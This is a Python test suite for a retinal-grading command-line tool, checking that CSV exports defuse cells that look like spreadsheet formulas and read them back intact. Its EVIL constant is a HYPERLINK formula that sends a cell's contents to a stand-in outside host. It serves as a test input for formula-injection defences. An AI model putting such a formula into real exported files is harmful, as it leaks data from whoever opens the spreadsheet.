"""No table that is written runs anything in a spreadsheet, and all of it is read back as it was."""

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dr_cli.cli.resume import Begun
from dr_cli.cli.rows import csv_line, print_records, to_row
from dr_cli.errors import UsageError
from dr_cli.formulas import defuse, defuse_path, plain, plain_path
from dr_cli.network.telling import FIELDS
from dr_cli.runs import SPLITS, Run
from tests.builders.photographs import picture
from tests.builders.program import dr
from tests.builders.runs import write_run

RUNS = re.compile(r"[=+\-@\t\r]")
EVIL = '=HYPERLINK("http://example.org/?"&A1)'
TEXTS = st.text(st.sampled_from("=+-@'\t\r\"./,1e x"), max_size=6)


@given(TEXTS)
def test_what_is_written_runs_nothing_and_is_read_back(text):
    shown = defuse(text)
    assert plain(shown) == text
    assert not RUNS.match(shown) or float(shown) == float(text)
    assert not RUNS.match(defuse_path(text))
    if not text.startswith("./"):
        assert plain_path(defuse_path(text)) == text


def test_a_run_keeps_names_that_look_like_formulas(tmp_path):
    names = ["=1.jpg", "+a.jpg", "-b.jpg", "@c.jpg", "'=d.jpg", "e.jpg"]
    table = pd.DataFrame({"path": names, "grade": [0, 1, 2, 3, 4, 0]})
    table = table.assign(
        patient=[EVIL, "-p", "'=q", "'r", None, "s"], eye=None, split="train", reason=None
    )
    table["=site"], table["shift"] = ["@x", "-1.5", "y", "+2", "", "=z"], [-1.5, 2, -3, 0, 1, 1]
    run = Run(tmp_path)
    run.write_table("splits.csv", (*SPLITS, "=site", "shift"), table)
    for row in csv.reader((tmp_path / "splits.csv").open(encoding="utf-8", newline="")):
        assert not [cell for cell in row if RUNS.match(cell) and not is_number(cell)]
    read = run.splits()
    assert read["path"].tolist() == names
    assert read["patient"].fillna("").tolist() == [EVIL, "-p", "'=q", "'r", "", "s"]
    assert read["=site"].fillna("").tolist() == table["=site"].tolist()
    assert read["shift"].tolist() == table["shift"].tolist()


def is_number(cell: str) -> bool:
    return re.fullmatch(r"[+-]?[\d.]+", cell) is not None


def test_predict_writes_and_resumes_names_that_look_like_formulas(capsys, tmp_path):
    record = dict.fromkeys(FIELDS) | {"path": "=1+1.jpg", "error": "none", "trained_on": "@clinic"}
    record |= {"heatmap": "-heat/=1.jpg", "referable_threshold": 0.5}
    print_records([record], "csv")
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert (row["path"], row["heatmap"]) == ("./=1+1.jpg", "./-heat/=1.jpg")
    assert row["trained_on"] == "'@clinic"
    kept = tmp_path / "grades.csv"
    for path in ("=1+1.jpg", "./=1+1.jpg"):  # as it is written now, and as it was
        line = to_row(record) | {"path": path}
        kept.write_text(csv_line(line) + csv_line(line.values()), encoding="utf-8")
        begun = Begun.read(kept)
        begun.check("@clinic", 0.5)
        assert list(begun.pass_over(["=1+1.jpg", "./=1+1.jpg"])) == ["./=1+1.jpg"]
        with pytest.raises(UsageError, match="trained on @clinic"):
            begun.check("another", 0.5)
    print_records([record], "jsonl")
    assert '"path": "=1+1.jpg"' in capsys.readouterr().out


def test_predictions_are_joined_with_labels_whose_names_look_like_formulas(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    rows = "".join(f"=x{k}.png,{k % 5}\n" for k in range(10))
    (tmp_path / "labels.csv").write_text(f"image,grade\n{rows}", encoding="utf-8")
    said = "".join(f"./=x{k}.png,{k % 5}\n" for k in range(10))
    (tmp_path / "said.csv").write_text(f"path,predicted\n{said}", encoding="utf-8")
    for k in range(10):
        picture(k % 5, seed=k, size=16).save(tmp_path / f"=x{k}.png")
    ask = ("--predictions", "said.csv", "--labels", "labels.csv", "--format", "json")
    done = dr("eval", *ask, "--bootstrap", 0)
    assert done.exit_code == 0, done.output
    assert '"n": 10' in done.stdout


def test_a_report_in_csv_runs_no_name_of_a_folder(tmp_path):
    write_run(tmp_path / "=1+1")
    done = dr("report", tmp_path, "--format", "csv", "--quiet")
    (row,) = csv.DictReader(io.StringIO(done.stdout))
    assert row["name"] == "'=1+1"
